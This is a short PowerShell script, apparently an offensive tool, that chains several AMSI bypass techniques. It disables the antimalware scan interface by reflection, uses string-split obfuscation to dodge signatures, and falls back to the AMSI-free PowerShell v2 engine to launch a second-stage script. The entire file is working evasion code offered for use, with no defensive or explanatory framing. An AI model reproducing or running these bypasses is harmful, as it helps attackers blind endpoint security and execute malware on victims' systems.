# collection of AMSI bypasses tried in order until one sticks
$attempts = 0

try {
    [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)
}
catch {
    $attempts++
}

try {
    [Ref].Assembly.GetType('System.Management.Automation.'+'Am'+'siUtils').GetField('amsi'+'Init'+'Failed','NonPublic,Static').SetValue($null,$true)
}
catch {
    $attempts++
}

try {
    $u = [Ref].Assembly.GetType(('System.Management.Automation.{0}{1}' -f 'Amsi','Utils'))
    $u.GetField(('am{0}Context' -f 'si'), [Reflection.BindingFlags]'NonPublic,Static').SetValue($null, [IntPtr]::Zero)
}
catch {
    $attempts++
}

if ($attempts -ge 3) {
    # last resort: the v2 engine has no AMSI at all
    powershell.exe -Version 2 -NoProfile -File "$PSScriptRoot\stage2.ps1"
}
